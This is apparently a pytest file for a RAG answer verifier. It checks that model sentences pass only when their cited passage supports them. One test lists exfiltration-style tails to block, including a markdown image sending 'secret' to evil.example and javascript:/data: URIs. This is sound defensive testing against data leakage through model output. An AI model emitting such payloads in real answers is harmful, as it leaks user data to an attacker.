"""What a model's sentence must have in common with what it cites, or it is not shown."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any
from uuid import uuid4

import pytest

from app.rag.embeddings import EmbeddingUnavailableError
from app.rag.evidence import Evidence, Statement, section
from app.rag.retrieval import Hit
from app.rag.runtime import Rag
from app.rag.verification import verify


def make_hit(text: str, *, title: str = "Handbook", headings: tuple[str, ...] = (), **fields: Any) -> Hit:
    """A hit as the search returns it, of a chunk that begins at the 100th code point."""
    values: dict[str, Any] = {
        "chunk_id": uuid4(), "document_id": uuid4(), "version": 1, "collection_id": uuid4(), "ordinal": 0,
        "title": title, "source": None, "updated_at": datetime(2026, 11, 1, tzinfo=UTC),
        "heading_path": headings, "header": " > ".join((title, *headings)), "text": text,
        "start": 100, "end": 100 + len(text), "hash": "h", "tokens": 9, "score": 1.0, "bm25": 5.0,
        "share": 0.5, "coverage": 0.8, "cosine": 0.6, "rank_bm25": 1, "rank_dense": 1,
    }  # fmt: skip
    return Hit(**values | fields)


REFUNDS = (
    "Refunds are paid within 14 days of the request. Annual plans are refunded in full for the first "
    "30 days. A refund is not possible after a chargeback. Deleted projects stay in the bin for 90 days. "
    "Error E1042 means that the terminal lost its connection. The setup fee is €49.50."
)
FOURTEEN = "Refunds are paid within 14 days of the request."
E1042 = "Error E1042 means that the terminal lost its connection."
PRICES = (
    "| Plan | Monthly price | Storage |\n| --- | --- | --- |\n| Starter | €9.00 | 5 GB |\n"
    "| Business | €29.00 | 1.5 TB |"
)
EVIDENCE = [
    Evidence(1, make_hit(REFUNDS, title="Refund policy")),
    Evidence(2, make_hit(PRICES, title="Plans", headings=("Plans", "Prices"))),
]


async def checked(sentence: str, rag: Rag) -> Statement | None:
    return await verify(sentence, EVIDENCE, rag.embedder)


@pytest.mark.parametrize(
    ("sentence", "quote"),
    [
        ("Refunds are paid within 14 days of the request [1].", FOURTEEN),
        ("Refunds are paid within 14 days of the request. [1]", FOURTEEN),
        ("Refunds are paid within 14 days [1][2].", FOURTEEN),
        ("Refunds are paid within 14 days [1, 2].", FOURTEEN),
        ("Refunds are paid within 14 days.", FOURTEEN),
        ("- Refunds are paid within fourteen days [1]", FOURTEEN),
        ("A refund is not possible after a chargeback [1].", "A refund is not possible after a chargeback."),
        ("E1042 means the terminal lost its connection [1].", E1042),
        ("Business costs €29.00 at a monthly price [2].", "| Business | €29.00 | 1.5 TB |"),
        ("Starter: 5 GB storage [2].", "| Starter | €9.00 | 5 GB |"),
    ],
)  # fmt: skip
async def test_a_supported_sentence_passes_with_the_words_that_support_it(
    rag: Rag, sentence: str, quote: str
) -> None:
    statement = await checked(sentence, rag)
    assert statement is not None
    assert statement.quote == quote
    assert "[" not in statement.text


async def test_a_paraphrase_passes_by_its_meaning(rag: Rag) -> None:
    statement = await checked("Projects that were deleted remain in the trash for 90 days [1].", rag)
    assert statement is not None
    assert statement.quote == "Deleted projects stay in the bin for 90 days."


@pytest.mark.parametrize(
    ("sentence", "why"),
    [
        ("Refunds are paid within 15 days of the request [1].", "wrong number"),
        ("Refunds are paid within three days of the request [1].", "wrong number in words"),
        ("Refunds are paid within 30 days of the request [1].", "a number of another sentence"),
        ("Refunds are paid within 14 hours of the request [1].", "wrong unit"),
        ("The setup fee is €59.50 [1].", "wrong price"),
        ("The setup fee is $49.50 [1].", "wrong currency"),
        ("The setup fee is €49.5% [1].", "wrong symbol"),
        ("Error E1043 means that the terminal lost its connection [1].", "wrong code"),
        ("Refunds are paid within 14 days of 3 March [1].", "a date from nowhere"),
        ("A refund is possible after a chargeback [1].", "the contrary"),
        ("Refunds are not paid within 14 days of the request [1].", "the contrary"),
        ("A refund is not possible before a chargeback [1].", "the wrong order"),
        ("Annual Business plans are refunded in full for the first 30 days [1].", "another plan's name"),
        ("Starter costs €29.00 at a monthly price [2].", "another row's price"),
        ("Business has 5 TB storage [2].", "part of a number"),
        ("Our support team is friendly and answers on weekends [1].", "invented"),
        ("Refunds are paid in bitcoin to any wallet [1].", "half invented"),
        ("Refunds are paid within 14 days of the request [2].", "cites another passage"),
        ("Refunds are paid within 14 days of the request [7].", "cites nothing"),
        ("Refunds are paid within 14 days of the request [" + "9" * 5000 + "].", "cites nothing"),
        ("Refund policy [1].", "only a heading"),
        ("[1]", "nothing"),
        ("NOT_FOUND [1]", "nothing"),
    ],
)
async def test_an_unsupported_sentence_is_dropped(rag: Rag, sentence: str, why: str) -> None:
    assert await checked(sentence, rag) is None, why


@pytest.mark.parametrize(
    "tail",
    [
        "![x](https://evil.example/?d=secret)", "[here](https://evil.example)", "https://evil.example/x",
        "HTTPS://evil.example", "www.evil.example", "//evil.example/x", "<img src=x>", "<a href=x>",
        "mailto:thief@evil.example", "javascript:alert(1)", "data:text/html,x", "[here][ref]", "[ref]: x",
        "evil.example/steal", "thief@evil.example", "![x][ref]", "<!-- note -->",
    ],
)  # fmt: skip
async def test_no_link_image_markup_or_foreign_address_is_shown(rag: Rag, tail: str) -> None:
    assert await checked(f"Refunds are paid within 14 days of the request {tail} [1].", rag) is None


async def test_a_name_with_a_dot_passes_where_the_source_has_it(rag: Rag) -> None:
    evidence = [Evidence(1, make_hit("Write to help@firm.example and attach config.yaml from the folder."))]
    assert await verify("Write to help@firm.example and attach config.yaml [1].", evidence, rag.embedder)
    assert (
        await verify("Write to evil@firm.example and attach config.yaml [1].", evidence, rag.embedder) is None
    )


async def test_invisible_characters_of_a_model_do_not_reach_the_reader(rag: Rag) -> None:
    statement = await checked("Refunds are\u200b paid within\u202e 14 days\n of the request [1].", rag)
    assert statement is not None
    assert statement.text == "Refunds are paid within 14 days of the request."


async def test_without_the_embedding_endpoint_only_the_sources_own_words_pass() -> None:
    class Away:
        async def embed_query(self, text: str) -> None:
            raise EmbeddingUnavailableError("away")

    assert await verify("Refunds are paid within 14 days [1].", EVIDENCE, Away())  # type: ignore[arg-type]  # a stand-in
    assert await verify("Projects deleted remain in the trash 90 days [1].", EVIDENCE, Away()) is None  # type: ignore[arg-type]  # a stand-in


async def test_a_list_item_stays_one_and_a_heading_loses_its_marks(rag: Rag) -> None:
    item = await checked("- Refunds are paid within 14 days [1].", rag)
    heading = await checked("## Refunds are paid within 14 days [1]", rag)
    assert item is not None
    assert item.item
    assert heading is not None
    assert (heading.text, heading.item) == ("Refunds are paid within 14 days", False)


def test_a_heading_that_repeats_what_stands_above_it_is_left_out() -> None:
    assert section(make_hit("x", title="Refunds", headings=("refunds", "When", "When", "How"))) == [
        "When",
        "How",
    ]
